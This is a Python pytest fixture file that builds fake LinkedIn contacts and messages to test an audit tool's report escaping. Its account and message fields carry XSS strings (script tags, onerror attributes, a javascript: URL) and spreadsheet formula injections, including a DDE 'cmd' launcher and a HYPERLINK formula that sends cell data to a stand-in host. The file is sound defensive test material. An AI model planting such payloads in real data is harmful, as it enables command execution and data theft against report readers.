"""Hostile findings for the report tests: every field an adversary writes carries a payload."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from itertools import count
from pathlib import Path

import pytest

from falsefriends.audit.data import from_exports
from falsefriends.audit.findings import build_findings
from falsefriends.audit.records import Findings
from falsefriends.check import Checker
from falsefriends.model import Account, Channel, Connection, Direction, IngestReport, Message, Sector, StaffMember
from falsefriends.rules.loader import load_rules

PACKS = Path(__file__).parent.parent / "audit" / "packs"


SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '" onerror="alert(2)'
JS_URL = "javascript:alert(3)"


_ids = count(1)


def url(slug: str) -> str:
    return f"https://www.linkedin.com/in/{slug}"


def when(month: int, day: int = 1) -> datetime:
    return datetime(2025, month, day, 10, 0, tzinfo=UTC)


def staff(staff_id: str, name: str, department: str, sector: Sector) -> StaffMember:
    slug = name.lower().replace(" ", "-")
    return StaffMember(staff_id=staff_id, name=name, department=department, sector=sector,
                       profile_url=url(slug), export_file=f"{slug}.zip")


def received(sender: Account, owner: StaffMember, body: str, sent_at: datetime, conversation: str | None = None,
             channel: Channel = Channel.MESSAGE) -> Message:
    return Message(id=f"m{next(_ids)}", body=body, sender=sender.key, sender_name=sender.name,
                   recipients=(owner.profile_url or "",), sent_at=sent_at, channel=channel,
                   conversation=conversation, direction=Direction.INCOMING)


def sent(owner: StaffMember, to: Account, body: str, sent_at: datetime, conversation: str) -> Message:
    return Message(id=f"m{next(_ids)}", body=body, sender=owner.profile_url, sender_name=owner.name,
                   recipients=(to.key or "",), sent_at=sent_at, conversation=conversation,
                   direction=Direction.OUTGOING)


@dataclass(frozen=True)
class FakeExport:
    source: str
    owner: Account
    connections: tuple[Connection, ...] = ()
    invitations: tuple[Message, ...] = ()
    messages: tuple[Message, ...] = ()
    contacts: tuple[Account, ...] = ()
    report: IngestReport = field(default_factory=IngestReport)


def export_of(member: StaffMember, messages: tuple[Message, ...] = (), invitations: tuple[Message, ...] = (),
              connections: tuple[Account, ...] = (), contacts: tuple[Account, ...] = ()) -> FakeExport:
    owner = Account(key=member.profile_url, url=member.profile_url, name=member.name)
    links = tuple(Connection(owner=member.profile_url or "", contact=c, connected_on=date(2025, 3, 2))
                  for c in connections)
    return FakeExport(source=f"exports/{member.export_file}", owner=owner, connections=links,
                      invitations=invitations, messages=messages, contacts=(*connections, *contacts))


@pytest.fixture(scope="session")
def report_checker() -> Checker:
    return Checker(rules=load_rules(sorted(PACKS.glob("*.yaml"))))


@pytest.fixture()
def roster() -> list[StaffMember]:
    return [staff("S1", "Alice Martin", "Research <b>R&D</b>", Sector.STATE),
            staff("S2", "Bob Okafor", "Engineering", Sector.BUSINESS)]


@pytest.fixture()
def hostile_findings(roster: list[StaffMember], report_checker: Checker) -> Findings:
    alice, bob = roster
    evil = Account(key=url("evil"), url=JS_URL, name=f"Jane {SCRIPT}", headline=f"Headhunter {ATTRIBUTE}",
                   employer="=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")
    img = Account(key=url("img"), url=url("img") + '"><img src=x onerror=alert(4)>', name="@SUM(1+1)",
                  headline="Headhunter", employer="+cmd|' /C calc'!A0")
    messages = (
        received(evil, alice, f"Dear Alice Martin, a generous fee {SCRIPT} awaits", when(3, 1), "c1"),
        received(evil, alice, f"Continue on WhatsApp {ATTRIBUTE} see {url('alice-martin')}", when(3, 2), "c1"),
        sent(alice, evil, "ok", when(3, 3), "c1"),
    )
    invites = (received(img, bob, "-2+3 a well paid analysis notes job, Bob", when(4, 1),
                        channel=Channel.INVITATION),)
    data = from_exports([export_of(alice, messages=messages, connections=(evil,)),
                         export_of(bob, invitations=invites, contacts=(img,))], roster)
    return build_findings(data, report_checker)
